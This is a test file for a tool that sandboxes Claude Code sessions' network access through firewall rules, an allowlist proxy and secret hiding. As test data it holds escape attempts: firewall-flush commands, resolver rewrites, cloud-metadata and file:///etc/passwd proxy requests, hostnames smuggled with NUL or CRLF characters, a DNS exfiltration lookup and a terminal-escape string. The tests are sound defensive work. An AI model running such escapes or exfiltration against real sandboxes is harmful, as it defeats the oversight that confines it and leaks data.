"""What a session does to reach what is not the internet, or with an allowlist what the user has not allowed."""

from __future__ import annotations

import contextlib
import json
import os
import shlex
import signal
import socket
import subprocess
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from attacks import Field
from helpers import User, docker, free_port, listens, wait_until
from probes import (
    BY_SIDECAR,
    INTERNET,
    NONE,
    OPEN,
    REFUSALS,
    Outside,
    Service,
    Target,
    address_of,
    background,
    confined,
    containers,
    gateway,
    neighbour,
    outside,
    own_addresses,
    plain,
    probe,
    probe_words,
    probed,
    service,
    settings_file,
    settle,
    volumes,
    volumes_of,
)

pytestmark = pytest.mark.xdist_group("network")

HOST = "host.docker.internal"
SECRET = "made-up-and-never-to-be-seen"


@pytest.fixture(scope="module")
def internet(ground: Path) -> Iterator[Outside]:
    with outside(ground) as made:
        yield made


def at_host(service: Service) -> list[Target]:
    """Every way to a service of this machine's."""
    addresses = dict.fromkeys([gateway(), *own_addresses()])
    kinds = [Target(kind, address, service.port) for address in addresses for kind in ("tcp", "udp")]
    return [*kinds, Target("tcp", HOST, service.port), Target("icmp", gateway())]


def opened(found: dict[str, str]) -> dict[str, str]:
    return {target: result for target, result in found.items() if result in ("open", "empty")}


# N01-N04


def test_the_hosts_services_are_closed(field: Field, listener: Service) -> None:
    """N01."""
    before = listener.connections
    found = probe(field, at_host(listener), tag="closed", **INTERNET)
    assert opened(found) == {}
    assert set(found.values()) <= REFUSALS, found  # at once
    assert listener.connections == before
    assert not listener.got("closed")

    # The control: on the engine's plain network they all are in reach.
    def all_in_reach() -> bool:
        targets = at_host(listener)
        again = opened(probe(field, targets, "--network", "open", tag="open", **INTERNET))
        near = {str(target) for target in targets if target.host == gateway()}
        own = {str(target) for target in targets if target.kind == "tcp" and target.host.count(".") == 3}
        return near | own <= again.keys()

    wait_until(all_in_reach)  # other tests' networks come and go
    wait_until(lambda: listener.got("open"))


@pytest.mark.root
def test_the_internet_is_open_and_private_networks_are_closed(field: Field, internet: Outside) -> None:
    """N02, and the control of all the rest: what is out there is in reach."""
    port = internet.service.port
    out_there = [Target("tcp", internet.address, port), Target("udp", internet.address, port)]
    out_there += [Target("icmp", internet.address)]
    kinds = ("tcp", "udp", "icmp")
    closed = [Target(kind, address, 0 if kind == "icmp" else port) for address in internet.private for kind in kinds]
    metadata = [
        Target("tcp", "169.254.169.254", 80),
        Target("tcp", "169.254.170.2", 80),
        Target("tcp", "127.0.0.1", 80),
    ]
    metadata += [Target("tcp", "fd00:ec2::254", 80), Target("tcp", "10.0.0.1", 22), Target("udp", "224.0.0.251", 5353)]
    found = probe(field, [*out_there, *closed, *metadata], tag="closed", **INTERNET)
    assert opened(found).keys() == {str(target) for target in out_there}, found
    refused = {found[str(target)] for target in (*closed, *metadata) if target.host != "127.0.0.1"}
    assert refused <= REFUSALS, found  # at once
    log = internet.service.log.read_text().splitlines()
    assert not [line for line in log if line.startswith("udp") and line.split()[-1] in internet.private]
    again = probe(field, closed, tag="open", **OPEN)  # the control
    assert opened(again).keys() == {str(target) for target in closed}, again


def test_neighbours_are_closed(field: Field, make_user: Callable[..., User]) -> None:
    """N03."""
    with neighbour() as (_, address, port):
        targets = [Target(kind, address, port) for kind in ("tcp", "udp", "icmp")]
        assert set(probe(field, targets, **INTERNET).values()) <= REFUSALS
        assert opened(probe(field, targets, **OPEN)).keys() == set(map(str, targets))  # the control


SERVE = "import socket; s = socket.create_server(('0.0.0.0', {0})); [s.accept()[0].sendall(b'pong') for _ in range(99)]"


@pytest.fixture
def another(field: Field, place: Path) -> Field:
    """Another project of the same user's."""
    return Field(field.user, field.user.folder(place / "another"), field.outside)


def test_another_sessions_ports_are_closed(field: Field, another: Field) -> None:
    """N03; also to other containers."""
    with background(another, ["python3", "-c", SERVE.format(5000)], **INTERNET):
        (name,) = containers(another, "session")
        address = address_of(name)
        assert address
        wait_until(lambda: listens(name, 5000))
        targets = [Target("tcp", address, 5000), Target("udp", address, 5000), Target("icmp", address)]
        assert set(probe(field, targets, **INTERNET).values()) <= REFUSALS
        # From there neither: its own side refuses it, too.
        assert opened(probe(field, targets, **OPEN)) == {}
    with background(another, ["python3", "-c", SERVE.format(5000)], **OPEN) as (_, name):  # the control
        target = Target("tcp", address_of(name), 5000)
        wait_until(lambda: opened(probe(field, [target], **OPEN)))


NETLINK = """python3 -c '
import socket, struct, sys
sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
body = bytes.fromhex(sys.argv[2])
sock.send(struct.pack("=IHHII", 16 + len(body), int(sys.argv[1]), 5 | 0x400, 1, 0) + body)
error = struct.unpack("=i", sock.recv(1000)[16:20])[0]
print(error)
sys.exit(error != 0)' """
LOW = {
    "packets": "python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)'",
    "ARP": "python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x608)'",
    "raw IP": "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)'",
    "raw ICMP": "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)'",
    "raw ICMPv6": "python3 -c 'import socket; socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58)'",
    # a route to 10.0.0.0/8 on the loopback, then an address for it
    "route": NETLINK + "24 02080000fe03fd0100000000080001000a0000000800040001000000",
    "address": NETLINK + "20 0208000001000000080002000a010101",
    "transparent": "python3 -c 'import socket; socket.socket().setsockopt(0, 19, 1)'",
    "mark": "python3 -c 'import socket; socket.socket().setsockopt(1, 36, 1)'",
    "flush": "nft flush ruleset",
    "add a rule": "nft insert rule inet confined_claude output accept",
    "delete": "nft delete table inet confined_claude",
    "forward": "echo 1 >/proc/sys/net/ipv4/ip_forward",
    "IPv6": "echo 0 >/proc/sys/net/ipv6/conf/all/disable_ipv6",
    "resolver": "echo nameserver 127.0.0.1 >/etc/resolv.conf",
    "hosts": "echo 127.0.0.1 x >>/etc/hosts",
    "sidecar's door": "python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"\\0confined-claude\")'",
}  # fmt: skip


@pytest.mark.root
def test_the_network_itself_cannot_be_changed(field: Field) -> None:
    """N04."""
    done = confined(field, LOW, **INTERNET)
    assert done.succeeded(list(LOW)) == {}
    names = ["packets", "ARP", "raw IP", "raw ICMP", "route", "address", "mark", "flush", "resolver", "hosts"]
    again = plain(field, {name: LOW[name] for name in names}, "--cap-add", "NET_ADMIN", network="bridge")
    assert list(again.succeeded(names)) == names  # the control


def test_host_ports_opens_these_alone(field: Field, listener: Service, ground: Path) -> None:
    with service(ground) as other:
        hosts = (HOST, gateway(), "127.0.0.1")
        targets = [Target("tcp", host, port) for host in hosts for port in (listener.port, other.port)]
        targets += [Target("udp", HOST, listener.port)]
        targets += [Target("tcp", host, listener.port) for host in own_addresses() if host != gateway()]
        found = probe(field, targets, "--host-ports", str(listener.port), **INTERNET)
        expected = {f"tcp {host}:{listener.port}" for host in hosts}
        assert opened(found).keys() == expected, found
        again = probe(field, targets, "--host-ports", str(other.port), **OPEN)  # the control
        assert opened(again).keys() >= {str(target) for target in targets if target.host == gateway()}


@pytest.fixture
def hidden() -> Iterator[list[int]]:
    """The ports of two services on this machine's loopback alone, which answer as the others do."""
    with contextlib.ExitStack() as stack:
        servers = [stack.enter_context(socket.create_server(("127.0.0.1", 0))) for _ in range(2)]

        def serve(server: socket.socket) -> None:
            with contextlib.suppress(OSError):
                while True:
                    client, _ = server.accept()
                    with client:
                        client.sendall(b"pong")

        for server in servers:
            threading.Thread(target=serve, args=(server,), daemon=True).start()
            stack.callback(server.shutdown, socket.SHUT_RDWR)
        yield [server.getsockname()[1] for server in servers]


# What a session may try at the sockets that lead to the host's ports.
AT_SOCKETS = """
import os, socket, sys
where, named, other = "/run/confined-claude-ports", *sys.argv[1:]
print("sees", sorted(os.listdir(where)))
for what, tried in {
    "another": lambda: socket.socket(socket.AF_UNIX).connect(f"{where}/{other}"),
    "new": lambda: socket.socket(socket.AF_UNIX).bind(f"{where}/{other}"),
    "link": lambda: os.symlink(named, f"{where}/{other}"),
    "remove": lambda: os.unlink(f"{where}/{named}"),
    "file": lambda: open(f"{where}/x", "w"),
}.items():
    try:
        tried()
        print("could", what)
    except OSError:
        pass
"""


@pytest.mark.parametrize("mode", ["internet", "internet by a sidecar", "allowlist", "open"])
def test_a_port_of_the_hosts_loopback_is_one_sessions_own_and_no_other_port_is(
    field: Field, another: Field, hidden: list[int], mode: str
) -> None:
    named, other = hidden
    variables = {
        **(BY_SIDECAR if "sidecar" in mode else INTERNET),
        "CONFINED_CLAUDE_NETWORK": mode.split(maxsplit=1)[0],
    }
    hosts = ("127.0.0.1", HOST, gateway())
    targets = [Target("tcp", host, port) for host in hosts for port in hidden]
    assert opened(probe(another, targets, **variables)) == {}
    there = "while ! [ -e PROJECT/over ]; do sleep .1; done"
    script = field.text(f"{shlex.join(probe_words(targets))} >found.new; mv found.new found; {there}")
    with background(field, ["sh", "-c", script], "--host-ports", str(named), **variables) as (_, name):
        wait_until((field.project / "found").exists)
        found = opened(probed((field.project / "found").read_text()))
        assert found.keys() == {f"tcp {host}:{named}" for host in ("127.0.0.1", HOST)}  # the control, too
        tried = docker("exec", name, "python3", "-c", AT_SOCKETS, str(named), str(other))
        assert tried == f"sees ['{named}']\n"
        # Neither another session nor another container reaches it.
        assert opened(probe(another, targets, **variables)) == {}
        if address := address_of(name):
            with neighbour() as (beside, _, _):
                assert opened(probed(docker("exec", beside, *probe_words([Target("tcp", address, named)])))) == {}
        (field.project / "over").touch()
    assert not list((field.user.home / ".local/state/confined-claude").glob("projects/*/relays/*"))


def test_no_session_reaches_an_engine(field: Field) -> None:
    done = field.session("touch PROJECT/ran", "--host-ports", "2375", **INTERNET)
    assert done.returncode == 2
    assert "2375" in done.stderr
    assert "Traceback" not in done.stderr
    assert not (field.project / "ran").exists()


def answers_at(address: str, port: int) -> bool:
    with contextlib.suppress(OSError), socket.create_connection((address, port), 20) as sock:
        return sock.recv(10) == b"pong"
    return False


def test_ports_are_published_on_the_loopback_alone(field: Field, listener: Service) -> None:
    port = free_port()
    # Back to this machine from the very port that is open to it.
    back = shlex.join(probe_words([Target(kind, gateway(), listener.port, port) for kind in ("tcp", "udp")]))
    script = f"python3 -c {shlex.quote(SERVE.format(port))} & {back} >back.new; mv back.new back; wait"

    with background(field, ["sh", "-c", script], "--ports", str(port), **INTERNET):
        wait_until(lambda: answers_at("127.0.0.1", port))
        assert [address for address in own_addresses() if answers_at(address, port)] == []
        wait_until((field.project / "back").exists)
        assert opened(probed((field.project / "back").read_text())) == {}
        address = address_of(containers(field, "session")[0])
        with neighbour() as (name, _, _):
            found = probed(docker("exec", name, *probe_words([Target("tcp", address, at) for at in (port, 61000)])))
            assert opened(found) == {}
            # The control: between neighbours without rules it is open.
            with neighbour() as (_, other, at):
                assert opened(probed(docker("exec", name, *probe_words([Target("tcp", other, at)]))))


def test_what_a_session_serves_on_its_loopback_is_published_to_this_machine_and_not_to_neighbours(
    field: Field,
) -> None:
    """Where containers reach each other, the engine's own way in is closed to all but the engine."""
    port = free_port()
    serve = SERVE.format(port).replace("0.0.0.0", "127.0.0.1")
    with background(field, ["python3", "-c", serve], "--ports", str(port), **OPEN) as (_, session), neighbour() as made:
        wait_until(lambda: listens(session, port))
        inside = [Target("tcp", address_of(session), at) for at in (port, 61000)]
        assert opened(probed(docker("exec", made[0], *probe_words(inside)))) == {}
        wait_until(lambda: answers_at("127.0.0.1", port))  # the control


# N05-N07, N10: the allowlist


@pytest.fixture
def allowed(field: Field, listener: Service) -> dict[str, str]:
    """The variables of a session with an allowlist, whose API is the test's own."""
    return {"CONFINED_CLAUDE_NETWORK": "allowlist", "ANTHROPIC_BASE_URL": f"http://localhost:{listener.port}"}


@pytest.mark.root
def test_there_is_no_way_beside_the_proxy(
    field: Field, internet: Outside, listener: Service, allowed: dict[str, str]
) -> None:
    """N05."""
    port = internet.service.port
    kinds = [
        Target("tcp", internet.address, port),
        Target("udp", internet.address, port),
        Target("icmp", internet.address),
    ]
    # But for the name of this machine: by it the session has the port of its API, which is relayed.
    here = [target for target in at_host(listener) if target.host != HOST]
    targets = [*kinds, *here, Target("tcp", "2001:db8::1", 443), Target("udp", "198.51.100.1", 53)]
    words = shlex.join(probe_words(targets, "direct"))
    bare = "env -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY -u http_proxy -u https_proxy -u all_proxy "
    steps = {"with": words, "without": bare + words, "links": "ls /sys/class/net"}
    steps["curl"] = f"{bare} curl -sS -m 60 http://{internet.address}:{port}/"
    done = confined(field, steps, **allowed)
    assert done.code == 0, done.told
    for name in ("with", "without"):
        found = probed(done[name].said)
        assert opened(found) == {}
        assert set(found.values()) <= REFUSALS, found
    assert done["links"].said.split() == ["lo"]
    assert done["curl"].code != 0
    assert not internet.service.got("direct")
    # The control: on the internet they are in reach.
    assert opened(probe(field, kinds, **INTERNET)).keys() == set(map(str, kinds))


# What is asked of the proxy, and the status of its answer.
ASK = """
import json, socket, sys
for name, request in json.loads(sys.argv[1]).items():
    with socket.create_connection(("127.0.0.1", 3128), 60) as sock:
        sock.settimeout(120)
        try:
            sock.sendall(request.encode("latin-1"))
            said = sock.recv(100).split()
        except ConnectionError:
            said = []
    print("GOT", json.dumps([name, said[1].decode() if len(said) > 1 else ""]), flush=True)
"""


def connect(target: str, *headers: str) -> str:
    return "\r\n".join((f"CONNECT {target} HTTP/1.1", f"Host: {target}", *headers, "", ""))


def answers(said: str) -> dict[str, str]:
    return dict(json.loads(line.removeprefix("GOT ")) for line in said.splitlines() if line.startswith("GOT "))


def requests(api: int, out_there: str) -> dict[str, str]:
    """Requests that are to be refused; ``api`` is a port of this machine that is allowed by its name."""
    named = f"{HOST}:{api}"
    return {
        "other name": connect("other.example.invalid:443"),
        "other port of an allowed name": connect("allowed.example.invalid:22"),
        "other port of this machine": connect(f"{HOST}:{api + 1}"),
        "name that ends in an allowed one": connect("evilallowed.example.invalid:443"),
        "name that starts with an allowed one": connect("allowed.example.invalid.evil.invalid:443"),
        "name below an allowed one": connect("sub.allowed.example.invalid:443"),
        "top of a wildcard": connect("wild.example.invalid:443"),
        "address": connect(f"{out_there}:443"),
        "address in brackets": connect("[2001:db8::1]:443"),
        "mapped address": connect(f"[::ffff:{out_there}]:443"),
        "address in one number": connect("3405803976:443"),
        "address in hexadecimal": connect("0xcb0071c8:443"),
        "address that is short": connect("127.1:443"),
        "loopback by address": connect("127.0.0.1:443"),
        "loopback by an allowed name": connect("localhost:443"),
        "metadata": connect("169.254.169.254:80"),
        "gateway": connect(f"172.17.0.1:{api}"),
        "sign-in before the name": connect("allowed.example.invalid@other.example.invalid:443"),
        "two names": connect("allowed.example.invalid other.example.invalid:443"),
        "NUL": connect("other.example.invalid\0.allowed.example.invalid:443"),
        "line's end": connect("other.example.invalid\r\nX: allowed.example.invalid:443"),
        "tab": connect("other.example.invalid\tallowed.example.invalid:443"),
        "port that is none": connect("allowed.example.invalid:0"),
        "port too high": connect("allowed.example.invalid:65979"),
        "no port": connect("allowed.example.invalid"),
        "empty name": connect(":443"),
        "dots": connect("..:443"),
        "long name": connect("a" * 300 + ":443"),
        "Host is allowed": f"CONNECT other.example.invalid:443 HTTP/1.1\r\nHost: {named}\r\n\r\n",
        "64 KB of headers": connect("other.example.invalid:443", "X: " + "x" * 70000),
        "GET elsewhere": f"GET http://other.example.invalid/ HTTP/1.1\r\nHost: {named}\r\n\r\n",
        "GET an address": f"GET http://{out_there}/ HTTP/1.1\r\nHost: {named}\r\n\r\n",
        "GET with a sign-in": f"GET http://{named}@other.example.invalid/ HTTP/1.1\r\nHost: {named}\r\n\r\n",
        "GET a path": f"GET / HTTP/1.1\r\nHost: {named}\r\n\r\n",
        "GET by ftp": f"GET ftp://{named}/ HTTP/1.1\r\nHost: {named}\r\n\r\n",
        "GET a file": f"GET file:///etc/passwd HTTP/1.1\r\nHost: {named}\r\n\r\n",
        "two lengths": f"POST http://{named}/ HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\n"
        "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "tunnel with a body": connect(named, "Content-Length: 100"),
        "no HTTP": "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
        "SOCKS": "\x05\x01\x00\r\n\r\n",
    }


@pytest.mark.root
def test_the_proxy_refuses_what_is_not_plainly_allowed(
    field: Field, internet: Outside, listener: Service, allowed: dict[str, str]
) -> None:
    """N07."""
    asked = requests(listener.port, internet.address)
    named = f"{HOST}:{listener.port}"
    good = {"named": connect(named), "upper case": connect(named.upper()), "dot": connect(named.replace(":", ".:"))}
    before = listener.connections
    done = confined(
        field,
        {name: shlex.join(["python3", "-c", ASK, json.dumps(what)]) for name, what in (("bad", asked), ("good", good))},
        "--allow", "allowed.example.invalid,*.wild.example.invalid,localhost",
        **allowed,
    )  # fmt: skip
    found = answers(done["bad"].said)
    assert found.keys() == asked.keys()
    assert {name: status for name, status in found.items() if status not in ("400", "403", "431")} == {}
    # The control: what is named is served.
    assert answers(done["good"].said) == dict.fromkeys(good, "200")
    assert listener.connections == before + len(good)


def test_no_name_is_asked_for_outside(field: Field, allowed: dict[str, str]) -> None:
    """N06; the control is that with the internet the name server is asked."""
    secret = "c2vjcmv0.exfiltration.example.invalid"
    script = (
        f"timeout 60 getent hosts {secret}; echo $?; timeout 60 getent ahosts x.{secret}; echo $?; cat /etc/resolv.conf"
    )
    done = field.session(script, **allowed)
    assert done.stdout.splitlines()[:2] == ["2", "2"], done.stdout  # not found, and not 124: at once
    servers = [line.split()[1] for line in done.stdout.splitlines() if line.startswith("nameserver")]
    assert servers == ["127.0.0.1"]
    told = field.user.run("confined-claude", "blocked", cwd=field.project)
    assert secret in told.stdout
    assert "looked up" in told.stdout
    outside = [
        line for line in field.session("cat /etc/resolv.conf", **INTERNET).stdout.splitlines() if "nameserver" in line
    ]
    assert "nameserver 127.0.0.1" not in outside


def test_the_sidecar_is_out_of_reach(field: Field, allowed: dict[str, str]) -> None:
    """N10."""
    steps = {
        "its processes": "pgrep -f '[e]gress.allowlist'",
        "its folder": "ls /run/confined-claude-egress | grep .",
        "a door of one's own": "touch /run/confined-claude-egress/socket",
        "its files": "find / -xdev -name blocked.json 2>/dev/null | grep .",
        "its port": "python3 -c 'import socket; socket.create_server((\"127.0.0.1\", 3128))'",
    }
    with background(field, ["sleep", "300"], **allowed) as (_, name):
        (sidecar,) = containers(field, "sidecar")
        for what, script in steps.items():
            done = subprocess.run(["docker", "exec", name, "sh", "-c", script], check=False, capture_output=True)
            assert done.returncode != 0, (what, done.stdout)
        # What serves the session is not in the sidecar's own network.
        listening = [
            line
            for kind in ("tcp", "tcp6", "udp", "udp6")
            for line in docker("exec", sidecar, "sh", "-c", f"cat /proc/net/{kind} || true").splitlines()
            if " 0A " in line or (kind.startswith("udp") and " 07 " in line)
        ]
        assert listening == []
        with neighbour() as (other, _, _):
            at = Target("tcp", address_of(sidecar), 3128)
            assert opened(probed(docker("exec", other, *probe_words([at])))) == {}
        # The control: in the session itself it does listen.
        shown = docker("exec", name, "cat", "/proc/net/tcp")
        assert "0100007F:0C38" in shown


class Upstream:
    """A company's proxy on this machine: takes every CONNECT, notes it, and answers for everyone."""

    def __init__(self) -> None:
        self.heads: list[str] = []
        self._listener = socket.create_server(("0.0.0.0", 0))
        self._listener.settimeout(0.2)
        self.port = int(self._listener.getsockname()[1])
        self._over = threading.Event()
        self._thread = threading.Thread(target=self._serve)

    def __enter__(self) -> Upstream:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._over.set()
        self._thread.join()
        self._listener.close()

    def _serve(self) -> None:
        while not self._over.is_set():
            with contextlib.suppress(OSError):
                client, _ = self._listener.accept()
                with client:
                    client.settimeout(60)
                    head = b""
                    while b"\r\n\r\n" not in head and (chunk := client.recv(1000)):
                        head += chunk
                    if head:
                        self.heads.append(head.decode())
                        client.sendall(b"HTTP/1.1 200 OK\r\n\r\n")

    @property
    def asked(self) -> list[str]:
        return [head.split()[1] for head in self.heads]


# Each file with the password at a place where something is mounted, or where sidecars have their directories.
MOUNTED = f"""
    for place in /egress $(awk '{{print $5}}' /proc/self/mountinfo); do
        case $place in / | /proc* | /sys* | /dev*) ;; *) grep -rlsF {SECRET} "$place" ;; esac
    done; true
"""


def test_a_companys_proxy_sees_what_is_allowed_and_nothing_else(field: Field, allowed: dict[str, str]) -> None:
    """Also: what the user adds counts in the session that runs, and nobody sees the password."""
    with Upstream() as upstream:
        given = {**allowed, "HTTPS_PROXY": f"http://user:{SECRET}@localhost:{upstream.port}"}
        settings_file(field.user, 'allow = ["first.example.invalid"]\n')
        names = ("first", "late", "never")
        asked = {name: connect(f"{name}.example.invalid:443") for name in names}
        ask = shlex.join(["python3", "-c", ASK, json.dumps(asked)])
        script = f"while sleep .3; do {ask} >said.new; mv said.new said; done"

        def said() -> dict[str, str]:
            file = field.project / "said"
            return answers(file.read_text()) if file.exists() else {}

        with background(field, ["sh", "-c", script], **given) as (_, name):
            wait_until(said)
            assert said() == {"first": "200", "late": "403", "never": "403"}
            assert set(upstream.asked) == {"first.example.invalid:443"}
            settings_file(field.user, 'allow = ["first.example.invalid", "late.example.invalid"]\n')
            wait_until(lambda: said().get("late") == "200")
            settings_file(field.user, 'allow = ["*"]\n')  # is none, and changes nothing
            shown = docker("inspect", name, *containers(field, "sidecar"))
            environ = docker("exec", name, "sh", "-c", "cat /proc/[0-9]*/environ; cat /proc/[0-9]*/cmdline")
            files, theirs = (docker("exec", one, "sh", "-c", MOUNTED) for one in (name, *containers(field, "sidecar")))
            wait_until(lambda: said() == {"first": "200", "late": "200", "never": "403"})
        assert set(upstream.asked) == {"first.example.invalid:443", "late.example.invalid:443"}
        assert "Basic" in upstream.heads[0]
    assert SECRET not in shown + environ
    assert files == ""
    assert "/egress/config.json" in theirs.splitlines(), "the control: where the sidecar reads it, it is found"


def test_what_was_refused_is_told_and_safe_to_print(field: Field, allowed: dict[str, str]) -> None:
    asked = {
        "one": connect("one.example.invalid:443"),
        "two": connect("two.example.invalid:8443"),
        "escape": connect("\x1b]0;owned\x07\x9b2J.example.invalid:443"),
        "quote": connect('x"]\nnetwork="open.example.invalid:443'),
    }
    ask = shlex.join(["python3", "-c", ASK, json.dumps(asked)])
    done = confined(field, {"ask": f"{ask}; {ask}; {ask}"}, **allowed)
    assert answers(done["ask"].said).keys() == asked.keys()
    told = field.user.run("confined-claude", "blocked", cwd=field.project)
    assert told.returncode == 0, told.stderr
    lines = told.stdout.splitlines()
    assert all(char.isprintable() or char == "\n" for char in told.stdout)
    assert any("one.example.invalid:443" in line and "3 times" in line for line in lines), told.stdout
    (cure,) = [line.strip() for line in lines if line.strip().startswith("allow = ")]
    assert json.loads(cure.removeprefix("allow = ")) == sorted(
        ["one.example.invalid", "two.example.invalid:8443"], key=cure.index
    )
    # What it says to add does open it.
    settings_file(field.user, cure + "\n")
    again = confined(field, {"ask": shlex.join(["python3", "-c", ASK, json.dumps(asked)])}, **allowed)
    assert answers(again["ask"].said)["one"] == "502"  # allowed, and nowhere


# N11, N12, C02


def by_sidecar(mode: str, allowed: dict[str, str]) -> dict[str, str]:
    """The variables of a session in ``mode`` that has a sidecar, and whose API is the test's own."""
    return {**BY_SIDECAR, **allowed, "CONFINED_CLAUDE_NETWORK": mode}


@pytest.mark.parametrize("mode", ["internet", "allowlist"])
def test_nothing_is_left_of_a_session_whose_tool_was_killed(field: Field, allowed: dict[str, str], mode: str) -> None:
    """N11."""
    given = by_sidecar(mode, allowed)
    with background(field, ["sleep", "300"], **given) as (tool, name):
        (sidecar,) = containers(field, "sidecar")  # the control
        used = volumes_of(sidecar)
        assert bool(used) == (mode == "allowlist")
        os.kill(tool.pid, signal.SIGKILL)
        tool.wait()
        docker("rm", "--force", "--volumes", name)
        wait_until(lambda: not containers(field, "sidecar"))
    assert field.session("true", **given).returncode == 0
    settle(field)
    wait_until(lambda: not used & volumes())  # the engine removes a container first, then its volumes


@pytest.mark.root
@pytest.mark.parametrize("mode", ["internet", "allowlist"])
def test_a_session_without_its_sidecar_has_no_network(
    field: Field, internet: Outside, listener: Service, allowed: dict[str, str], mode: str
) -> None:
    """N11."""
    given = by_sidecar(mode, allowed)
    # But for the port of its API, which is relayed beside the sidecar.
    here = [target for target in at_host(listener) if target.host != HOST]
    targets = [Target("tcp", internet.address, internet.service.port), *here]
    asking = shlex.join(["python3", "-c", ASK, json.dumps({"named": connect(f"{HOST}:{listener.port}")})])
    words = shlex.join(probe_words(targets))
    script = (
        f"until [ -e go ]; do sleep .1; done; {words} >found; timeout 60 {asking} >asked 2>&1; touch over; sleep 600"
    )
    with background(field, ["sh", "-c", script], **given) as (tool, _):
        docker("kill", *containers(field, "sidecar"))
        wait_until(lambda: not containers(field, "sidecar"))
        assert tool.stdout is not None
        said = ""
        while "network is closed" not in said:
            line = tool.stdout.readline()
            assert line, said
            said += line
        (field.project / "go").touch()
        wait_until((field.project / "over").exists)
        assert opened(probed((field.project / "found").read_text())) == {}
        assert answers((field.project / "asked").read_text()).get("named", "") != "200"
    settle(field)


@pytest.mark.root
def test_none_is_none(field: Field, internet: Outside, listener: Service) -> None:
    """N12."""
    targets = [Target("tcp", internet.address, internet.service.port), *at_host(listener)]
    assert opened(probe(field, targets, **NONE)) == {}
    assert field.session("ls /sys/class/net", **NONE).stdout.split() == ["lo"]
    assert str(targets[0]) in opened(probe(field, targets, **INTERNET))  # the control


@pytest.mark.parametrize("mode", ["internet", "allowlist", "none", "open"])
def test_no_secret_is_shown_by_the_engine(field: Field, allowed: dict[str, str], mode: str) -> None:
    """C02: nor by processes, logs, files that stay, or the records."""
    secrets = {
        "ANTHROPIC_API_KEY": f"sk-ant-{SECRET}",
        "ANTHROPIC_AUTH_TOKEN": SECRET,
        "ANTHROPIC_BASE_URL": allowed["ANTHROPIC_BASE_URL"].replace("//", f"//user:{SECRET}@"),
        "ANTHROPIC_CUSTOM_HEADERS": f"X-Key: {SECRET}",
        "CLAUDE_CODE_OAUTH_TOKEN": f"sk-ant-oat01-{SECRET}",
        "HTTP_PROXY": f"http://user:{SECRET}@localhost:9",
    }
    field.user.sign_in(token=f"sk-ant-oat01-{SECRET}")
    given = {**allowed, "CONFINED_CLAUDE_NETWORK": mode, **secrets}
    with background(field, ["sleep", "300"], **given) as (tool, name):
        both = [name, *containers(field, "sidecar")]
        assert len(both) == (2 if mode == "allowlist" else 1)
        shown = docker("inspect", *both) + "".join(docker("top", each) for each in both)
        arguments = Path(f"/proc/{tool.pid}/cmdline").read_text() + subprocess.run(
            ["ps", "-eo", "args"], capture_output=True, text=True, check=True
        ).stdout  # fmt: skip
        assert docker("logs", name, check=False) == ""
        # The session's user may read what it has as variables anyway, so their file stays for `exec`.
        find = "find /run /tmp -xdev -type f ! -path /run/confined-claude/variables"
        shown += docker("exec", name, "sh", "-c", f"{find} -exec cat {{}} + 2>/dev/null || true")
        environ = docker("exec", name, "sh", "-c", "cat /proc/[0-9]*/environ | tr '\\0' '\\n'")
        has = {line.partition("=")[0] for line in environ.splitlines() if SECRET in line}
        # The control: the session has them, but for a token beside a key, which Claude Code would not use.
        assert set(secrets) - {"HTTP_PROXY", "CLAUDE_CODE_OAUTH_TOKEN"} <= has
    records = (path.read_text() for path in (field.user.home / ".local/state").rglob("*") if path.is_file())
    assert SECRET not in "".join((shown, arguments, *records))
